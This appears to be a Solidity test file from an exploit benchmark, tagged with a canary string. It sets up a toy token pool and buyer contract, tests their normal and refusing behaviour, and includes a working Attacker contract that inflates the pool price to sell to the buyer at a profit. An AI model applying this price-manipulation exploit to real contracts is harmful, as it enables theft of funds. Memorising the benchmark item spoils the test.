// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./HoneyCounter.sol";

// assay-canary-57405945-d20c-4ebe-a4c3-42fb8161bded

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Coin is IToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Lifts the pool's price for as long as it takes to sell to the counter.
contract Attacker {
    HoneyCounter internal counter;
    HoneyPool internal pool;
    Coin internal honey;
    Coin internal crown;

    constructor(HoneyCounter counter_, Coin honey_, Coin crown_) {
        (counter, honey, crown, pool) = (counter_, honey_, crown_, counter_.pool());
        honey.approve(address(pool), type(uint256).max);
        honey.approve(address(counter), type(uint256).max);
        crown.approve(address(pool), type(uint256).max);
    }

    function run() external {
        uint256 got = pool.buyHoney(crown.balanceOf(address(this)));
        counter.sell(400e18, 0);
        pool.sellHoney(got - 400e18);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Coin internal honey;
    Coin internal crown;
    HoneyPool internal pool;
    HoneyCounter internal counter;
    Attacker internal drone;

    function setUp() public {
        vm.warp(1_700_000_000);
        honey = new Coin();
        crown = new Coin();
        pool = new HoneyPool(honey, crown);
        honey.mint(address(this), 11_000e18);
        crown.mint(address(this), 100_000e18);
        honey.approve(address(pool), type(uint256).max);
        crown.approve(address(pool), type(uint256).max);
        pool.fill(10_000e18, 50_000e18);
        counter = new HoneyCounter(pool);
        crown.transfer(address(counter), 40_000e18);
        vm.warp(block.timestamp + 7 hours);
        counter.mark();

        drone = new Attacker(counter, honey, crown);
        crown.mint(address(drone), 150_000e18);
    }

    function test_Regular() public {
        require(counter.price() == 5e18, "marked");
        honey.approve(address(counter), type(uint256).max);
        require(counter.offerFor(100e18) == 475e18, "a twentieth below");
        uint256 before = crown.balanceOf(address(this));
        require(counter.sell(300e18, 1_400e18) == 1_425e18, "sold");
        require(crown.balanceOf(address(this)) == before + 1_425e18, "paid");
        require(!_try(address(counter), abi.encodeCall(counter.sell, (101e18, 0))), "daily limit");
        require(!_try(address(counter), abi.encodeCall(counter.sell, (10e18, 50e18))), "least");
        require(!_try(address(counter), abi.encodeCall(counter.mark, ())), "too early");
        vm.warp(block.timestamp + 6 hours);
        require(!_try(address(counter), abi.encodeCall(counter.sell, (10e18, 0))), "mark is too old");

        pool.buyHoney(1_000e18);
        require(pool.spot() > 5.1e18 && pool.spot() < 5.3e18, "price follows a trade");
        vm.warp(block.timestamp + 1 days);
        counter.mark();
        require(counter.price() > 5.1e18, "mark follows the price");
        require(counter.sell(400e18, 1_900e18) >= 1_900e18, "next day");
        crown.mint(address(this), 20_000e18);
        pool.buyHoney(20_000e18);
        vm.warp(block.timestamp + 7 hours);
        uint256 last = counter.price();
        counter.mark();
        require(counter.price() == last + last / 20, "a twentieth at a time");
        counter.hand(honey, 700e18);
        require(honey.balanceOf(address(counter)) == 0, "handed over");

        honey.mint(address(this), 10e18);
        honey.approve(address(pool), 10e18);
        require(pool.sellHoney(10e18) > 0, "sold to the pool");
    }

    function _try(address to, bytes memory data) private returns (bool ok) {
        (ok, ) = to.call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The union's hand, one filling, some price.
    function test_RefusesCounters() public {
        refuses(address(drone), HoneyCounter.UnionOnly.selector);
        counter.hand(crown, 1);
        vm.expectRevert(HoneyPool.AlreadyFilled.selector);
        pool.fill(1, 1);
        vm.expectRevert(HoneyPool.NothingOut.selector);
        pool.sellHoney(0);
        vm.expectRevert(abi.encodeWithSelector(HoneyCounter.TooEarly.selector, block.timestamp + 6 hours));
        counter.mark();
        HoneyCounter fresh = new HoneyCounter(pool);
        vm.expectRevert(HoneyCounter.NotPriced.selector);
        fresh.offerFor(1e18);
    }

    /// Coins that say no are believed.
    function test_RefusesFailedTransfers() public {
        honey.approve(address(counter), 1e18);
        crown.sleep(true);
        vm.expectRevert(Pull.Failed.selector);
        counter.sell(1e18, 0);
        crown.sleep(false);
        honey.sleep(true);
        vm.expectRevert(Pull.Failed.selector);
        counter.sell(1e18, 0);
    }

    function exploit() public {
        drone.run();
    }

    function test_Exploit() public {
        uint256 before = crown.balanceOf(address(drone));
        exploit();
        require(crown.balanceOf(address(drone)) >= before + 20_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(counter);
    }

    function attacker() public view returns (address) {
        return address(drone);
    }

    function asset() public view returns (address) {
        return address(crown);
    }
}
